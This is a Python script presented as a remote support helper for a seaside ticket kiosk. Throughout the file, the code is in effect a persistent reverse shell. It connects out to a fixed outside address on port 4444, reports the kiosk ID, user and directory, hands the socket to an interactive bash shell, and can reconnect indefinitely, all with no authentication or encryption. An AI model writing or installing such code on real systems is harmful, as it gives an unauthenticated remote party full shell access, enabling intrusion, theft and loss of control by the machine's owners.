#!/usr/bin/env python3
"""Remote support helper for the promenade ticket kiosk.

Dials out to the support desk so the contractor can get a shell on the
kiosk without anyone opening a port on the beach hut router.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time

LOG = logging.getLogger("kiosk-support")

DEFAULT_HOST = os.environ.get("KIOSK_SUPPORT_HOST", "203.0.113.45")
DEFAULT_PORT = int(os.environ.get("KIOSK_SUPPORT_PORT", "4444"))
KIOSK_ID = os.environ.get("KIOSK_ID", "promenade-north-01")


class SupportSession:
    def __init__(self, host, port, retries, delay):
        self.host = host
        self.port = port
        self.retries = retries
        self.delay = delay
        self.sock = None

    def connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                LOG.info("dialling support desk %s:%d (attempt %d)", self.host, self.port, attempt)
                self.sock = socket.create_connection((self.host, self.port), timeout=15)
                self.sock.settimeout(None)
                return True
            except OSError as exc:
                LOG.warning("support desk unreachable: %s", exc)
                time.sleep(self.delay)
        return False

    def announce(self):
        banner = "kiosk={} user={} cwd={}\n".format(
            KIOSK_ID, os.environ.get("USER", "unknown"), os.getcwd()
        )
        self.sock.sendall(banner.encode())

    def hand_over(self):
        fd = self.sock.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        pty.spawn("/bin/bash")


def parse_args():
    parser = argparse.ArgumentParser(description="Open a remote support session for the ticket kiosk")
    parser.add_argument("--host", default=DEFAULT_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retries", type=int, default=20)
    parser.add_argument("--delay", type=float, default=30.0)
    parser.add_argument("--forever", action="store_true", help="reconnect after the session ends")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    while True:
        session = SupportSession(args.host, args.port, args.retries, args.delay)
        if not session.connect():
            LOG.error("giving up on support desk after %d attempts", args.retries)
            return 1
        session.announce()
        pid = os.fork()
        if pid == 0:
            session.hand_over()
            os._exit(0)
        os.waitpid(pid, 0)
        session.sock.close()
        LOG.info("support session finished")
        if not args.forever:
            return 0
        time.sleep(args.delay)


if __name__ == "__main__":
    sys.exit(main())
